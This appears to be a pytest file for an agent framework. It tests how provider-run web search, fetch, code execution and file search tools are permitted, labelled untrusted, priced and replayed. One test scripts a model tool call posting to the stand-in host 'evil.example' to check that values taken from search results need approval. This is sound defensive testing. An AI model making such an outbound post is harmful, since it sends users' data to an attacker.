"""Tools that the provider runs: offered as the rules say, shown, labelled, paid for, and kept for the next turn."""

from __future__ import annotations

import json
from typing import Any

import pytest
from anthropic.types.message_create_params import MessageCreateParamsStreaming
from openai.types.responses.response_create_params import ResponseCreateParamsStreaming

from forge import (
    Agent,
    Answer,
    Egress,
    Limits,
    PermissionRequest,
    Price,
    Scripted,
    fallback,
    messages_from_json,
    messages_to_json,
    rules,
    tool,
)
from forge.agent import HookDecision
from forge.core.errors import DefinitionError
from forge.core.result import Label, read_labels
from forge.events import ToolFinished, ToolStarted
from forge.models import Anthropic, OpenAI, OpenAIResponses, ServerTool
from forge.pipeline import standard_steps
from tests.models.oracle import problems
from tests.models.serving import Server, named_sse, serving, sse, stream

TYPES = {"anthropic": MessageCreateParamsStreaming, "openai": ResponseCreateParamsStreaming}
USAGE = {"input_tokens": 10, "output_tokens": 5, "server_tool_use": {"web_search_requests": 1, "web_fetch_requests": 0}}
HIT = {"type": "web_search_result", "title": "News", "url": "https://news.example/1", "encrypted_content": "ENC=="}
SEARCHED: list[dict[str, Any]] = [
    {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {"query": "the news"}},
    {"type": "web_search_tool_result", "tool_use_id": "srvtoolu_1", "content": [HIT]},
    {"type": "text", "text": "Rain.", "citations": None},
]
FAILED = {"type": "web_search_tool_result_error", "error_code": "max_uses_exceeded"}
WEB_CALL: dict[str, Any] = {
    "id": "ws_1",
    "type": "web_search_call",
    "status": "completed",
    "action": {"type": "search", "query": "the news", "sources": [{"type": "url", "url": "https://news.example/1"}]},
}


def said(api: str, *blocks: dict[str, Any], text: str = "Rain.") -> bytes:
    """An answer with these blocks or items."""
    if api == "anthropic":
        start = {"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": [], "usage": USAGE}
        found: list[dict[str, Any]] = [{"type": "message_start", "message": start}]
        for index, block in enumerate(blocks):
            found.append({"type": "content_block_start", "index": index, "content_block": block})
        found.append({"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": USAGE})
        return named_sse(*((event["type"], event) for event in [*found, {"type": "message_stop"}]))
    part = {"type": "output_text", "text": text, "annotations": []}
    spoken = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed", "content": [part]}
    usage = {"input_tokens": 10, "output_tokens": 5, "total_tokens": 15}
    done = {"object": "response", "status": "completed", "output": [*blocks, spoken], "usage": usage}
    return named_sse(("response.completed", {"type": "response.completed", "response": done}))


def model(api: str, server: Server) -> Anthropic | OpenAIResponses:
    if api == "anthropic":
        return Anthropic("claude-sonnet-5", base_url=server.url, api_key="key")
    return OpenAIResponses("gpt-5.4", base_url=f"{server.url}/v1", api_key="key")


ANSWERS = {"anthropic": said("anthropic", *SEARCHED), "openai": said("openai", WEB_CALL)}
BOTH = pytest.mark.parametrize("api", ["anthropic", "openai"])


@BOTH
async def test_an_allowed_tool_is_offered_and_its_calls_are_seen(api):
    events: list[Any] = []
    async with serving(stream(ANSWERS[api])) as server:
        tools = [ServerTool("web_search", allowed_domains=["news.example"])]
        agent = Agent(model(api, server), server_tools=tools, policy=rules("allow network news.example"))
        agent.activity.subscribe(events.append)
        result = await agent.run("What is new?")
    (sent,) = server.bodies
    assert problems(sent, TYPES[api]) == []
    (offered,) = [one for one in sent["tools"] if one.get("type", "").startswith("web_search")]
    assert "news.example" in str(offered)
    assert result.text == "Rain."
    (offer, shown) = [event for event in events if isinstance(event, ToolFinished)]
    assert offer.result.for_llm == "offered: the model may search the web, at the provider"
    assert shown.call.name == "server_web_search"
    assert shown.call.arguments["query"] == "the news"  # type: ignore[index]
    assert "https://news.example/1" in shown.result.for_llm
    assert shown.result.labels == (Label("untrusted", "server_web_search"),)
    assert len([event for event in events if isinstance(event, ToolStarted)]) == 2
    assert read_labels(result.messages[-1].extra["labels"]) == (Label("untrusted", "server_web_search"),)


@BOTH
async def test_a_denied_tool_is_not_offered(api):
    async with serving(
        stream(said(api, {"type": "text", "text": "Rain."}) if api == "anthropic" else said(api))
    ) as server:
        tools = [ServerTool("web_search"), ServerTool("code_execution")]
        policy = rules("allow execute", "allow network", "deny tool:server_web_search")
        result = await Agent(model(api, server), server_tools=tools, policy=policy).run("What is new?")
    assert result.text == "Rain."
    kinds = [one.get("type", "") for one in server.bodies[0]["tools"]]
    assert any(kind.startswith("code_") for kind in kinds)
    assert not any(kind.startswith("web_search") for kind in kinds)


@pytest.mark.parametrize("yes", [True, False])
async def test_a_person_is_asked_once_a_run(yes):
    asked: list[PermissionRequest] = []

    async def answer(request: PermissionRequest) -> Answer:
        asked.append(request)
        return Answer("once" if yes else "no")

    looked = [*SEARCHED[:2], {"type": "tool_use", "id": "t1", "name": "look", "input": {}}]
    calls = said("anthropic", *looked) if yes else said("anthropic", looked[2])
    async with serving(stream(calls.replace(b'"end_turn"', b'"tool_use"')), stream(ANSWERS["anthropic"])) as server:
        agent = Agent(model("anthropic", server), tools=[look], server_tools=[ServerTool("web_search")], approve=answer)
        await agent.run("What is new?")
    assert [(request.spec.name, request.target) for request in asked] == [("server_web_search", "*")]
    assert [any(one["name"] == "web_search" for one in body["tools"]) for body in server.bodies] == [yes, yes]


async def test_nobody_to_ask_means_not_offered():
    events: list[Any] = []
    async with serving(stream(said("anthropic", {"type": "text", "text": "Rain."}))) as server:
        agent = Agent(model("anthropic", server), server_tools=[ServerTool("web_search")])
        agent.activity.subscribe(events.append)
        await agent.run("What is new?")
    assert "web_search" not in str(server.bodies[0]["tools"])
    assert [event.success for event in events if isinstance(event, ToolFinished)] == [False]


@pytest.mark.parametrize(
    ("egress", "domains", "offered"),
    [
        (Egress("allowlist", domains=("news.example", "*.news.example")), ["news.example"], True),
        (Egress("allowlist", domains=("news.example",)), ["news.example"], False),  # a provider includes subdomains
        (Egress("allowlist", domains=("news.example", "*.news.example")), None, False),
        (Egress("deny-all"), ["news.example"], False),
        (Egress(), None, True),
    ],
)
async def test_the_egress_of_the_project_counts(egress, domains, offered):
    async with serving(stream(said("anthropic", {"type": "text", "text": "Rain."}))) as server:
        agent = Agent(
            model("anthropic", server),
            server_tools=[ServerTool("web_search", allowed_domains=domains)],
            policy=rules("allow network"),
            steps=lambda gate, secrets: standard_steps(gate, secrets=secrets, egress=egress),
        )
        await agent.run("What is new?")
    assert ("web_search" in str(server.bodies[0]["tools"])) is offered


@tool(permissions={"read"})
def look() -> str:
    """Look around."""
    return "nothing"


@tool(permissions={"network"}, target="url")
def post(url: str) -> str:
    """Send something."""
    return "sent"


@BOTH
async def test_results_go_back_unchanged_and_others_read_them(api):
    async with serving(stream(ANSWERS[api])) as server:
        agent = Agent(model(api, server), server_tools=[ServerTool("web_search")], policy=rules("allow network"))
        first = await agent.run("What is new?")
        stored = messages_from_json(messages_to_json(first.messages))
        await agent.run("And now?", history=stored)
    again = server.bodies[1]
    assert problems(again, TYPES[api]) == []
    if api == "anthropic":
        kinds = [block["type"] for block in again["messages"][1]["content"]]
        assert kinds == ["server_tool_use", "web_search_tool_result", "text"]
        assert again["messages"][1]["content"][1]["content"] == [HIT]
    else:
        assert again["input"][1] == WEB_CALL
    other = "openai" if api == "anthropic" else "anthropic"
    async with serving(stream(ANSWERS[other]), stream(sse(CHAT))) as server:
        await Agent(model(other, server)).run("And now?", history=stored)
        chat = OpenAI("any", base_url=f"{server.url}/v1", api_key="key")
        await Agent(chat).run("And now?", history=stored)
    assert problems(server.bodies[0], TYPES[other]) == []
    for body in server.bodies:
        assert "server_web_search(" in json.dumps(body)
        assert "https://news.example/1" in json.dumps(body)
        assert "ENC==" not in json.dumps(body)


CHAT = {"choices": [{"index": 0, "delta": {"content": "Hi."}, "finish_reason": "stop"}]}


@BOTH
async def test_calls_are_paid_for(api):
    async with serving(stream(ANSWERS[api])) as server:
        limits = Limits(price=Price(input=0, output=0), cost=1)
        tools = [ServerTool("web_search")]
        agent = Agent(model(api, server), server_tools=tools, policy=rules("allow network"), limits=limits)
        result = await agent.run("What is new?")
        dear = Agent(
            model(api, server),
            server_tools=[ServerTool("web_search", price=0.5)],
            policy=rules("allow network"),
            limits=limits,
        )
        assert (await dear.run("What is new?")).cost == 0.5
    assert (result.cost, result.calls) == (0.01, 1)


async def test_a_call_that_failed_costs_nothing():
    failed = said("anthropic", SEARCHED[0], {**SEARCHED[1], "content": FAILED}, SEARCHED[2])
    async with serving(stream(failed)) as server:
        limits = Limits(price=Price(input=0, output=0))
        tools = [ServerTool("web_search")]
        agent = Agent(model("anthropic", server), server_tools=tools, policy=rules("allow network"), limits=limits)
        result = await agent.run("What is new?")
    assert (result.cost, result.messages[-1].extra["server_calls"][0]["text"]) == (0, "failed: max_uses_exceeded")


@pytest.mark.parametrize(
    ("answer", "goes_on"), [(SEARCHED[:2], False), ([{"type": "text", "text": "I send it."}], True)]
)
async def test_a_value_from_a_result_needs_approval(answer, goes_on):
    """The results are sealed: what the model takes from them cannot be told from what the person said."""
    calls = {"type": "tool_use", "id": "t1", "name": "post", "input": {"url": "https://evil.example/x"}}
    first = said("anthropic", *answer, calls).replace(b'"end_turn"', b'"tool_use"')
    async with serving(stream(first), stream(said("anthropic", {"type": "text", "text": "Done."}))) as server:
        agent = Agent(
            model("anthropic", server),
            tools=[post],
            server_tools=[ServerTool("web_search")],
            policy=rules("allow network"),
        )
        result = await agent.run("What is new?")
    (sent,) = [message for message in result.messages if message.role == "tool"]
    assert sent.is_error is not goes_on


@pytest.mark.parametrize(
    ("provider", "tools", "says"),
    [
        (Scripted("Hi"), [ServerTool("web_search")], "Scripted has no server tools"),
        (
            Anthropic("claude-sonnet-5", api_key="k"),
            [ServerTool("file_search", vector_store_ids=["vs_1"])],
            "anthropic:claude-sonnet-5 has no server tool 'file_search'; it has web_search, web_fetch, code_execution",
        ),
        (
            OpenAIResponses("gpt-5.4", api_key="k"),
            [ServerTool("web_search", max_uses=2)],
            "openai-responses:gpt-5.4 has no setting 'max_uses' for web_search",
        ),
        (fallback(Anthropic("claude-sonnet-5", api_key="k"), Scripted("x")), [ServerTool("web_search")], "Scripted"),
    ],
)
async def test_a_model_without_the_tool_is_an_error(provider, tools, says):
    result = await Agent(provider, server_tools=tools, policy=rules("allow network")).run("Hi")
    assert result.error is not None
    assert says in result.error.message


async def test_two_tools_of_one_name_are_an_error():
    @tool(name="web_search")
    def search() -> str:
        """Search."""
        return ""

    provider = Anthropic("claude-sonnet-5", api_key="k")
    agent = Agent(provider, tools=[search], server_tools=[ServerTool("web_search")], policy=rules("allow network"))
    error = (await agent.run("Hi")).error
    assert error is not None
    assert "the same name, 'web_search'" in error.message


@pytest.mark.parametrize(
    ("kind", "settings"),
    [("web_serch", {}), ("web_search", {"domains": []}), ("web_search", {"allowed_domains": "news.example"})],
)
def test_a_wrong_definition_is_refused(kind, settings):
    with pytest.raises(DefinitionError, match="ServerTool"):
        ServerTool(kind, **settings)


async def test_every_kind_fits_the_types_of_their_packages():
    code: list[dict[str, Any]] = [
        {"type": "server_tool_use", "id": "s1", "name": "bash_code_execution", "input": {"command": "ls"}},
        {
            "type": "bash_code_execution_tool_result",
            "tool_use_id": "s1",
            "content": {
                "type": "bash_code_execution_result",
                "stdout": "a.txt",
                "stderr": "",
                "return_code": 0,
                "content": [],
            },
        },
        {"type": "server_tool_use", "id": "s2", "name": "web_fetch", "input": {"url": "https://news.example"}},
        {
            "type": "web_fetch_tool_result",
            "tool_use_id": "s2",
            "content": {
                "type": "web_fetch_result",
                "url": "https://news.example",
                "content": {
                    "type": "document",
                    "title": "News",
                    "source": {"type": "text", "media_type": "text/plain", "data": "It rains."},
                },
            },
        },
        {"type": "text", "text": "Done."},
    ]
    kinds = [ServerTool("web_search", max_uses=1), ServerTool("web_fetch"), ServerTool("code_execution")]
    async with serving(stream(said("anthropic", *code))) as server:
        agent = Agent(model("anthropic", server), server_tools=kinds, policy=rules("allow network", "allow execute"))
        first = await agent.run("Go.")
        await agent.run("On.", history=first.messages)
    assert [problems(body, TYPES["anthropic"]) for body in server.bodies] == [[], []]
    made = first.messages[-1].extra["server_calls"]
    assert [(one["name"], one["text"]) for one in made] == [
        ("server_code_execution", "a.txt"),
        ("server_web_fetch", "https://news.example\nNews\nIt rains."),
    ]
    ran: dict[str, Any] = {
        "id": "ci_1",
        "type": "code_interpreter_call",
        "status": "completed",
        "code": "1",
        "container_id": "c",
    }
    ran["outputs"] = [{"type": "logs", "logs": "a.txt"}]
    found: dict[str, Any] = {"id": "fs_1", "type": "file_search_call", "status": "completed", "queries": ["x"]}
    found["results"] = [{"file_id": "f", "filename": "a.md", "text": "All is well."}]
    kinds = [
        ServerTool("web_search", allowed_domains=["a.example"], user_location={"country": "CH"}),
        ServerTool("file_search", vector_store_ids=["vs_1"]),
        ServerTool("code_execution"),
    ]
    async with serving(stream(said("openai", ran, found))) as server:
        agent = Agent(model("openai", server), server_tools=kinds, policy=rules("allow network", "allow execute"))
        first = await agent.run("Go.")
        await agent.run("On.", history=first.messages)
    assert [problems(body, TYPES["openai"]) for body in server.bodies] == [[], []]
    made = first.messages[-1].extra["server_calls"]
    assert [(one["name"], one["text"]) for one in made] == [
        ("server_code_execution", "a.txt"),
        ("server_file_search", "a.md - All is well."),
    ]
    assert server.bodies[1]["input"][1:3] == [ran, found]


def test_a_sub_agent_has_the_tools_of_its_type():
    agent = Agent(Scripted("x"), server_tools=[ServerTool("web_search")], agents={})
    assert agent.server_tools
    assert agent.subagent().server_tools == ()


async def test_an_answer_that_pauses_while_the_provider_searches_goes_on():
    delta = {"type": "input_json_delta", "partial_json": '{"query": "the news"}'}
    paused = named_sse(
        ("message_start", {"type": "message_start", "message": {"role": "assistant", "usage": USAGE}}),
        (
            "content_block_start",
            {"type": "content_block_start", "index": 0, "content_block": {**SEARCHED[0], "input": {}}},
        ),
        ("content_block_delta", {"type": "content_block_delta", "index": 0, "delta": delta}),
        ("message_delta", {"type": "message_delta", "delta": {"stop_reason": "pause_turn"}, "usage": USAGE}),
        ("message_stop", {"type": "message_stop"}),
    )
    async with serving(stream(paused), stream(said("anthropic", *SEARCHED[1:]))) as server:
        limits = Limits(price=Price(input=0, output=0))
        tools = [ServerTool("web_search")]
        agent = Agent(model("anthropic", server), server_tools=tools, policy=rules("allow network"), limits=limits)
        result = await agent.run("What is new?")
    assert (result.text, result.cost, result.calls) == ("Rain.", 0.01, 1)
    assert server.bodies[1]["messages"][-1]["content"] == [SEARCHED[0]]
    assert result.messages[-1].extra["server_calls"][0]["input"] == {"query": "the news"}


@pytest.mark.parametrize(
    ("chosen", "blocked", "is_offered"),
    [
        ([], "", False),
        (["server_web_search"], "", True),
        (None, "server_web_search", False),
        (None, "server_*", False),
        (None, "bash", True),
    ],
)
async def test_hooks_and_the_choice_of_tools_are_about_them_too(
    chosen: list[str] | None, blocked: str, *, is_offered: bool
) -> None:
    choice: dict[str, Any] = {} if chosen is None else {"choose_tools": lambda ctx: chosen}
    async with serving(stream(ANSWERS["anthropic"])) as server:
        agent = Agent(
            model("anthropic", server),
            server_tools=[ServerTool("web_search", allowed_domains=["news.example"])],
            policy=rules("allow network news.example"),
            **choice,
        )
        if blocked:
            agent.before_call(match=blocked)(lambda ctx: HookDecision(block="no"))
        await agent.run("go")
    sent = [str(one.get("type")) for one in server.bodies[0].get("tools", [])]
    assert any(one.startswith("web_search") for one in sent) == is_offered
